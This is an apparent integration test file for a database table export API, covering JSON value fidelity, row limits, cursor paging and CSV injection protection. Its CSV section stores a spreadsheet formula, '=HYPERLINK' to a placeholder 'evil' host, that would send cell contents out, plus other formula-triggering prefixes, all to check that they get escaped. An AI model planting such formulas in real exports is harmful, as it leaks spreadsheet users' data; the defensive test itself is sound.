import { handler as tables } from '#functions/tables';
import { resetConfig } from '#lib/config';
import { ALLOWED_TYPES, columnTypeSql } from '#lib/db/column-types';
import { schemaAccess } from '#lib/db/executor';
import { quoteIdent, quoteLiteral } from '#lib/db/identifiers';
import { jsonRowTypes } from '#lib/db/json-rows';
import { closePool } from '#lib/db/pool';
import { asTenant, bearer, createKey } from '#test/security/tenant';
import { withAdminClient, withOwnerClient } from '#test/support/db';
import { call } from '#test/support/http';
import { uniqueName } from '#test/support/names';
import { freshSchema } from '#test/support/tables';

/**
 * The JSON export is rendered by PostgreSQL, yet must carry the values the table read gives (the
 * driver's type parsers of lib/db/json-rows, then JSON.stringify): the two are compared, as parsed
 * JSON, over every column type a column can be made with (test/integration/value-round-trip writes
 * them back).
 */

afterAll(closePool);

const BIG = ['9007199254740991', '-9007199254740991', '9007199254740992', '-9007199254740993'];
const INSTANTS = [
  '2020-01-02 03:04:05.123456+00',
  '2020-01-02 03:04:05.999999-05:30',
  '1969-12-31 23:59:59.9995+00',
  'infinity',
  '-infinity',
  '0050-06-01 12:00:00.0005+00',
  '0001-01-01 00:00:00+00 BC',
  '0002-06-30 23:59:59.5+00 BC',
  '4713-01-01 00:00:00+00 BC',
  '9999-12-31 23:59:59.999999+00',
  '10000-01-01 00:00:00+00',
  '275760-09-13 00:00:00.000999+00',
  '275760-09-13 00:00:00.001+00',
  '294276-12-31 23:59:59.999999+00',
];
const TEXTS = [
  'plain',
  '',
  'quotes " and \\ backslashes \\" \'',
  'controls \u0001\u0002\u001f\u007f\b\f\n\r\t end',
  'unicode ü 中文 😀 \u2028\u2029 e\u0301',
  '  padded  ',
];

/** Values per type as PostgreSQL reads them (cast to the column's type); a missing one is NULL. */
const SAMPLES: Record<string, string[]> = {
  smallint: ['-32768', '32767', '0'],
  integer: ['-2147483648', '2147483647', '0'],
  bigint: [...BIG, '9223372036854775807', '-9223372036854775808', '0', '42'],
  serial: ['1', '2147483647'],
  bigserial: ['9007199254740993', '1'],
  numeric: [
    'NaN',
    'Infinity',
    '-Infinity',
    '0.000000000000000000001',
    '-0.0',
    '1e100',
    '123456789012345678901234567890.5',
  ],
  'numeric(8,2)': ['12.5', '-0.01', '999999.99'],
  real: ['NaN', 'Infinity', '-Infinity', '-0', '0.1', '3.4028235e38', '1.4e-45', '1e-10'],
  'double precision': [
    'NaN',
    'Infinity',
    '-Infinity',
    '-0',
    '0.1',
    '1.7976931348623157e308',
    '5e-324',
    '123456789.123456789',
  ],
  boolean: ['true', 'false'],
  text: TEXTS,
  varchar: TEXTS,
  'varchar(5)': ['abc', 'ü😀', ''],
  char: ['a', ' ', '"'],
  'char(5)': ['ab', 'abcde', ''],
  date: ['2020-02-29', 'infinity', '-infinity', '0044-03-15 BC', '5874897-12-31', '0001-01-01'],
  time: ['00:00:00', '23:59:59.999999', '24:00:00', '12:34:56.5'],
  timestamp: [
    '2020-01-02 03:04:05.123456',
    'infinity',
    '-infinity',
    '4713-01-01 00:00:00 BC',
    '294276-12-31 23:59:59.999999',
    '0099-06-01 00:00:00',
  ],
  timestamptz: INSTANTS,
  uuid: ['a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11', '00000000-0000-0000-0000-000000000000'],
  json: [
    '{"a": 1, "b": [true, null, "x"], "nested": {"k": "v"}}',
    '"a string"',
    '123.50',
    'null',
    '[]',
    '{\n  "spaced" : 1,\t"dup": 1, "dup": 2\n}',
    '{"escaped": "\\u00e9\\u0000\\n\\"", "big": 12345678901234567890}',
  ],
  jsonb: [
    '{"a": 1, "b": [true, null, "x"]}',
    '"a string"',
    '123.50',
    'null',
    '{"escaped": "\\u00e9\\n", "n": 1e-7}',
  ],
  bytea: ['\\xdeadbeef', '\\x', 'plain bytes', '\\x00ff0a5c22'],
};

/** Columns PostgreSQL fills itself: they take a value in every row. */
const NOT_NULL = new Set(['serial', 'bigserial']);

/**
 * Beyond the types a column can be made with, those a tenant can make with its own SQL and the
 * driver hands over alike: domains (as the type under them), points, circles, oids, enums,
 * composites, money, intervals, times with zone, arrays of integers and text.
 */
const TENANT_TYPES = `
  CREATE DOMAIN big_d AS bigint; CREATE DOMAIN big_dd AS big_d;
  CREATE DOMAIN instant_d AS timestamptz CHECK (VALUE IS DISTINCT FROM '1900-01-01 00:00:00+00');
  CREATE TYPE mood AS ENUM ('happy', 'so "so"'); CREATE TYPE pair AS (a int, b text)`;
const EXTRA: [name: string, type: string, samples: string[]][] = [
  ['"odd ""name"" ü"', 'text', ['key needs escaping']],
  ['big_domain', 'big_dd', BIG],
  ['instant_domain', 'instant_d', INSTANTS],
  ['a_point', 'point', ['(1,2)', '(-1.5,1e300)']],
  ['a_circle', 'circle', ['<(1.5,2),3>']],
  ['an_oid', 'oid', ['42', '4294967295']],
  ['a_mood', 'mood', ['happy', 'so "so"']],
  ['a_pair', 'pair', ['(1,"x, y")', '(,)']],
  ['some_money', 'money', ['12.5', '-0.01']],
  ['an_interval', 'interval', ['1 day 02:00', '-1 year 2 mons', '00:00:00.000001']],
  ['a_timetz', 'timetz', ['12:00+02', '23:59:59.999999-14']],
  ['ints', 'int[]', ['{1,NULL,3}', '{}', '{{1,2},{3,4}}']],
  ['texts', 'text[]', ['{"a","b c",NULL,"\\\\"}']],
];

const columnName = (type: string) => `"c_${type.replace(/\W+/g, '_')}"`;

async function valuesTable(schema: string): Promise<void> {
  const types = [...new Set([...ALLOWED_TYPES.map((type) => columnTypeSql(type)), ...Object.keys(SAMPLES)])];
  const missing = types.filter((type) => !SAMPLES[type]);
  if (missing.length > 0) throw new Error(`add sample values for ${missing.join(', ')}`);
  const columns: [string, string, string[]][] = [
    ...types.map((type): [string, string, string[]] => [columnName(type), type, SAMPLES[type] ?? []]),
    ...EXTRA,
  ];
  const rows = Math.max(...columns.map(([, , samples]) => samples.length)) + 1;
  const value = ([, type, samples]: [string, string, string[]], row: number) => {
    const sample = NOT_NULL.has(type) ? samples[row % samples.length] : samples[row];
    return sample === undefined
      ? 'NULL'
      : `${quoteLiteral(sample)}::${type.replace(/^(big)?serial$/, '$1int')}`;
  };
  await asTenant(
    schema,
    `SET search_path = "${schema}"; ${TENANT_TYPES};
     CREATE TABLE vals (id int PRIMARY KEY, ${columns.map(([name, type]) => `${name} ${type}`).join(', ')});
     INSERT INTO vals VALUES ${Array.from(
       { length: rows },
       (_, row) => `(${row}, ${columns.map((column) => value(column, row)).join(', ')})`,
     ).join(',\n')}`,
  );
}

/** What the table read answers: the driver's rows as lib/db/json-rows parses them, through JSON.stringify. */
async function driverExport(schema: string) {
  const access = await schemaAccess(undefined, schema);
  const { rows } = await access.run((client) =>
    client.query({ text: 'SELECT * FROM vals ORDER BY id', types: jsonRowTypes }),
  );
  return JSON.parse(JSON.stringify({ table: 'vals', count: rows.length, data: rows }));
}

/** Every value where the two differ, by row and column: none is expected. */
function differences(got: { data: Record<string, unknown>[] }, want: { data: Record<string, unknown>[] }) {
  const found = [];
  for (const [row, wanted] of want.data.entries()) {
    for (const [column, value] of Object.entries(wanted)) {
      const actual = got.data[row]?.[column];
      if (!Object.is(JSON.stringify(actual), JSON.stringify(value)))
        found.push({ row, column, actual, value });
    }
  }
  return found;
}

const databaseName = () => new URL(process.env.DATABASE_URL as string).pathname.slice(1);

const exportJson = (schema: string) =>
  call(tables, { path: '/api/table/vals/export', query: { schema, format: 'json' } });

describe('JSON export values', () => {
  let schema: string;
  beforeAll(async () => {
    schema = await freshSchema('exv');
    await valuesTable(schema);
  });

  it('are those of the table read, for every column type, NULLs, edge values and odd text', async () => {
    const reply = await exportJson(schema);
    const want = await driverExport(schema);

    expect(reply.status).toBe(200);
    expect(reply.headers['content-type']).toBe('application/json; charset=utf-8');
    const got = JSON.parse(reply.text);
    expect(Object.keys(got)).toEqual(['table', 'count', 'data']);
    expect(differences(got, want)).toEqual([]);
    expect(got).toEqual(want);
    expect(want.count).toBeGreaterThan(10);
  });

  // Through a transaction pooler the session's TimeZone is the pooler's to keep (PgBouncer tracks
  // it per client), so the database's setting does not reach it: nothing to show there.
  const direct = process.env.DATABASE_POOL_MODE === 'transaction' ? it.skip : it;
  direct('are the same whatever time zone the session has', async () => {
    // A schema role's own settings are reset whenever its pool is made: the database's apply.
    const database = (c: { query(sql: string): Promise<unknown> }, setting: string) =>
      c.query(`ALTER DATABASE ${quoteIdent(databaseName())} ${setting}`);
    await withAdminClient((c) => database(c, "SET TimeZone = 'America/St_Johns'"));
    await closePool(); // the next sessions log in afresh
    try {
      const access = await schemaAccess(undefined, schema);
      const zone = await access.run((client) => client.query('SHOW TimeZone'));
      expect(zone.rows[0].TimeZone).toBe('America/St_Johns');

      const reply = await exportJson(schema);

      expect(differences(JSON.parse(reply.text), await driverExport(schema))).toEqual([]);
    } finally {
      await withAdminClient((c) => database(c, 'RESET TimeZone'));
      await closePool();
    }
  });
});

describe('export limits', () => {
  let schema: string;
  beforeAll(async () => {
    schema = await freshSchema('exl');
    await asTenant(
      schema,
      `CREATE TABLE "${schema}".five (id int PRIMARY KEY, name text);
       INSERT INTO "${schema}".five SELECT g, 'row ' || g FROM generate_series(1, 5) g`,
    );
  });

  afterEach(() => {
    delete process.env.QUERY_MAX_ROWS;
    resetConfig();
  });

  const exportAs = (format: string, limit = '10000') =>
    call(tables, { path: '/api/table/five/export', query: { schema, format, limit } });

  it.each(['json', 'csv'])(
    'answers %s past QUERY_MAX_ROWS with 413 naming it, and up to it in full',
    async (format) => {
      process.env.QUERY_MAX_ROWS = '4';
      resetConfig();

      const over = await exportAs(format);
      const limited = await exportAs(format, '4');

      expect([over.status, over.body.error]).toEqual([413, 'Result too large']);
      expect(over.body.message).toMatch(/QUERY_MAX_ROWS/);
      expect(limited.status).toBe(200);
      expect(format === 'json' ? limited.body.count : limited.text.split('\n').length - 2).toBe(4);
    },
  );

  it('counts the rows, not the lines, of a CSV whose values hold line breaks', async () => {
    process.env.QUERY_MAX_ROWS = '2';
    resetConfig();
    await asTenant(
      schema,
      `CREATE TABLE "${schema}".lines (id int PRIMARY KEY, v text);
      INSERT INTO "${schema}".lines VALUES (1, E'a\\nb\\nc'), (2, E'\\n\\n')`,
    );

    const reply = await call(tables, { path: '/api/table/lines/export', query: { schema, format: 'csv' } });

    expect(reply.status).toBe(200);
    expect(reply.text).toBe('id,v\n1,"a\nb\nc"\n2,"\n\n"\n');
  });
});

describe('a whole table, page by page', () => {
  let schema: string;
  beforeAll(async () => {
    schema = await freshSchema('expages');
    await withOwnerClient(schema, (c) =>
      c.query(`CREATE TABLE "${schema}".n (id int PRIMARY KEY, grp int, label text);
               INSERT INTO "${schema}".n SELECT g, g % 3, 'row ' || g FROM generate_series(1, 25) g;
               CREATE TABLE "${schema}".keyless (a int); INSERT INTO "${schema}".keyless VALUES (1), (2);`),
    );
  });
  const page = (query: Record<string, string>, table = 'n') =>
    call(tables, { path: `/api/table/${table}/export`, query: { schema, limit: '10', ...query } });

  it('JSON: follows nextCursor to the end under a filter and an order, each row once, in order', async () => {
    const seen: number[] = [];
    let after: string | undefined;
    const pages: number[] = [];
    do {
      const reply = await page({ filter: 'grp.neq.0', order: 'label.desc', ...(after ? { after } : {}) });
      expect(reply.status).toBe(200);
      seen.push(...reply.body.data.map((r: { id: number }) => r.id));
      pages.push(reply.body.count);
      after = reply.body.nextCursor;
    } while (after);

    const expected = Array.from({ length: 25 }, (_, i) => i + 1)
      .filter((id) => id % 3 !== 0)
      .sort((a, b) => (`row ${b}` < `row ${a}` ? -1 : 1));
    expect(seen).toEqual(expected);
    expect(pages).toEqual([10, 7]);
  });

  it('CSV: X-Next-Cursor carries the cursor, and header=false pages join into one file', async () => {
    const first = await page({ format: 'csv' });
    const second = await page({
      format: 'csv',
      header: 'false',
      after: first.headers['x-next-cursor'] as string,
    });
    const third = await page({
      format: 'csv',
      header: 'false',
      after: second.headers['x-next-cursor'] as string,
    });

    const lines = (first.text + second.text + third.text).trim().split('\n');
    expect(lines[0]).toBe('id,grp,label');
    expect(lines.slice(1).map((line) => Number(line.split(',')[0]))).toEqual(
      Array.from({ length: 25 }, (_, i) => i + 1),
    );
    expect(third.headers['x-next-cursor']).toBeUndefined();
  });

  it('answers a page of none after a cursor whose rows were deleted meanwhile, for a key too', async () => {
    await withOwnerClient(schema, (c) =>
      c.query(`CREATE TABLE "${schema}".shrinking AS SELECT g AS id FROM generate_series(1, 15) g;
                                          ALTER TABLE "${schema}".shrinking ADD PRIMARY KEY (id)`),
    );
    const first = await page({}, 'shrinking');
    await withAdminClient((c) => c.query(`DELETE FROM "${schema}".shrinking WHERE id > 10`));
    const key = await createKey(schema, 'anon', uniqueName('reader'));

    const json = await page({ after: first.body.nextCursor }, 'shrinking');
    const csv = await call(tables, {
      path: '/api/table/shrinking/export',
      query: { format: 'csv', header: 'false', limit: '10', after: first.body.nextCursor },
      ...bearer(key.key),
    });

    expect(json.status).toBe(200);
    expect(json.body).toEqual({ table: 'shrinking', count: 0, data: [] });
    expect(csv.status).toBe(200);
    expect(csv.text).toBe('');
  });

  it('refuses a cursor altered or made for another order, and after on a table without a key', async () => {
    const first = await page({});
    const cursor = first.body.nextCursor as string;

    const altered = await page({ after: `A${cursor.slice(1)}` });
    const otherOrder = await page({ after: cursor, order: 'label' });
    const keyless = await page({ after: cursor }, 'keyless');

    expect([altered.status, otherOrder.status, keyless.status]).toEqual([400, 400, 400]);
    expect(altered.body.error).toBe('Invalid cursor');
    expect(keyless.body.message).toMatch(/has no primary key/);
  });
});

describe('CSV for spreadsheets (OWASP: CSV injection)', () => {
  let schema: string;
  beforeAll(async () => {
    schema = await freshSchema('exformula');
    await asTenant(
      schema,
      `CREATE TABLE "${schema}".cells (id int PRIMARY KEY, v text, n numeric, j jsonb, "=1+1" text);
       INSERT INTO "${schema}".cells VALUES
         (1, '=HYPERLINK("http://evil/"&A1,"click")', -5, '"=1+1"'),
         (2, '+1+2', 1.5, '{}'),
         (3, '-2+3', NULL, NULL),
         (4, '@SUM(A1)', 0, NULL),
         (5, E'\\t=1', 0, NULL),
         (6, E'\\r=1', 0, NULL),
         (7, 'plain = text', 0, NULL),
         (8, NULL, 0, NULL),
         (9, E' \\n=1', 0, NULL),
         (10, '＝1+1', 0, NULL),
         (11, E'\\u2003=1', 0, NULL)`,
    );
  });
  const exportCsv = (query: Record<string, string> = {}) =>
    call(tables, { path: '/api/table/cells/export', query: { schema, format: 'csv', ...query } });

  it('keeps every value exactly by default, for a round trip', async () => {
    const reply = await exportCsv();

    expect(reply.text.split('\n').slice(0, 2)).toEqual([
      'id,v,n,j,=1+1',
      '1,"=HYPERLINK(""http://evil/""&A1,""click"")",-5,"""=1+1""",',
    ]);
  });

  it('with spreadsheetSafe, starts every text cell and column name a spreadsheet would run with a quote, numbers kept', async () => {
    const reply = await exportCsv({ spreadsheetSafe: 'true' });

    expect(reply.status).toBe(200);
    expect(reply.text).toBe(
      [
        `id,v,n,j,'=1+1`,
        `1,"'=HYPERLINK(""http://evil/""&A1,""click"")",-5,"""=1+1""",`,
        `2,'+1+2,1.5,{},`,
        `3,'-2+3,,,`,
        `4,'@SUM(A1),0,,`,
        `5,'\t=1,0,,`,
        `6,"'\r=1",0,,`,
        '7,plain = text,0,,',
        '8,,0,,',
        `9,"' \n=1",0,,`,
        `10,'＝1+1,0,,`,
        `11,'\u2003=1,0,,`,
        '',
      ].join('\n'),
    );
  });

  it('refuses spreadsheetSafe for JSON, naming it', async () => {
    const reply = await call(tables, {
      path: '/api/table/cells/export',
      query: { schema, format: 'json', spreadsheetSafe: 'true' },
    });

    expect(reply.status).toBe(400);
    expect(reply.body.message).toMatch(/spreadsheetSafe/);
  });
});
